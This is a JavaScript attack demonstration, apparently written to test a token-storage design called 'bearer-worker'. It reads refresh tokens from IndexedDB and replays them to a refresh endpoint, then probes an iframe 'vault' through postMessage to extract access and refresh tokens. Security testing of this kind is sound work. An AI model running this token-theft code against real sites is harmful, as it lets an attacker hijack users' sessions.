// With a refresh token an attacker stays signed in on another machine, after the user has closed this page.
const done = (request) => new Promise((resolve) => (request.onsuccess = () => resolve(request.result)))
const database = await done(indexedDB.open('bearer-worker'))
const records = await done(database.transaction('sessions').objectStore('sessions').getAll())
database.close()

const stolen = records.flatMap(({ refreshToken }) => refreshToken ?? [])
for (const refreshToken of stolen) {
  found('refresh token', refreshToken)
  const answer = await fetch(`${demo.lighthouses}/api/user/token-refresh/`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json' },
    body: JSON.stringify({ refresh_token: refreshToken }),
  })
  if (answer.ok) say('The server of the lighthouses takes it, and answers with another access token.')
}
if (stolen.length === 0) say('No refresh token is in the store of this origin.')

// The vault hands over access tokens. Here it is asked for everything else, by the messages of the app.
if (demo.vault) {
  const frame = document.createElement('iframe')
  frame.src = `${demo.vault}/bearer-worker.vault.html`
  document.body.append(frame)
  await new Promise((resolve) => (frame.onload = resolve))
  try {
    say(frame.contentWindow.indexedDB)
  } catch (error) {
    say(`The store of the vault cannot be opened from here: ${error.name}.`)
  }
  const { port1, port2 } = new MessageChannel()
  frame.contentWindow.postMessage({ bearerWorkerVault: 1 }, '*', [port2])
  for (const name of ['token', 'refreshToken', 'session', 'refresh', 'proof']) {
    port1.postMessage({ id: 1, name, with: { session: 'lighthouses', reason: 'expired' } })
    const { value } = await new Promise((resolve) => {
      port1.onmessage = ({ data }) => data.kind === 'reply' && resolve(data.reply)
    })
    if (value?.accessToken) found('access token', value.accessToken)
    if (value?.refreshToken) found('refresh token', value.refreshToken)
    say(`The vault, asked for “${name}”: ${value ? Object.keys(value).join(', ') : 'refused'}.`)
  }
}
